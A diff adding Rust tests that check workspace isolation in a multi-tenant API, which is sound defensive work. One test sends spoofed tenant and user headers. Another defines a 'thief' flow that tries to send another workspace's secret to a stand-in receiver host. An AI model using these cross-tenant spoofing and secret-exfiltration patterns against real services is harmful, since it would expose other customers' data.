@@ -179,3 +179,70 @@ async fn the_root_key_is_admin_of_the_default_workspace_and_two_headers_are_nobo
         .await
         .refused(401, "unauthorized");
 }
+
+/// A page of `list` as `headers` beside the key show it.
+async fn shown(world: &World, key: &str, list: &str, headers: &[(&str, String)]) -> Value {
+    let mut request = http::Request::get(list).header("authorization", format!("Bearer {key}"));
+    for (name, value) in headers {
+        request = request.header(*name, value);
+    }
+    let request = request.body(axum::body::Body::empty()).unwrap();
+    world.send(request).await.expect(200)
+}
+
+#[tokio::test]
+async fn the_key_alone_decides_the_workspace_whatever_a_header_says() {
+    let world = world().await;
+    ids(&world).await;
+    let ours = world.key(world.ours, Scope::Admin).await;
+    let theirs = world.theirs.to_string();
+    for name in [
+        "x-workspace",
+        "x-workspace-id",
+        "x-tenant-id",
+        "x-organization-id",
+        "x-user-id",
+        "x-forwarded-user",
+    ] {
+        let header = (name, theirs.clone());
+        for headers in [vec![header.clone()], vec![header.clone(), header]] {
+            let flows = shown(&world, &ours, "/v1/flows", &headers).await;
+            assert_eq!(flows["data"], json!([]), "{name}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_flow_cannot_use_a_secret_of_another_workspace() {
+    let world = world().await;
+    ids(&world).await;
+    let ours = world.key(world.ours, Scope::Admin).await;
+    let flow = json!({"name": "thief", "on": ["call.ended"], "steps": [{"id": "a", "do": "http.request", "retry": {"attempts": 1},
+        "with": {"url": "https://receiver.invalid/", "headers": {"x-key": "{{ secrets.their_secret }}"}}}]});
+    let made = world.call(&ours, "POST", "/v1/flows", flow).await;
+    made.expect(201);
+    let event = json!({"kind": "call.ended", "call": {"provider_call_id": "c-2"}});
+    let event = world
+        .call(&ours, "POST", "/v1/events", event)
+        .await
+        .expect(202);
+    let path = format!(
+        "/v1/runs/{}",
+        event["events"][0]["runs"][0].as_str().unwrap()
+    );
+    let run = loop {
+        let run = world
+            .call(&ours, "GET", &path, Value::Null)
+            .await
+            .expect(200);
+        if run["status"] == "failed" || run["status"] == "succeeded" {
+            break run;
+        }
+        tokio::task::yield_now().await;
+    };
+    assert_eq!(
+        run["entries"][0]["error"]["code"], "secret_missing",
+        "{run:#}"
+    );
+    assert!(!run.to_string().contains("canary"), "{run:#}");
+}
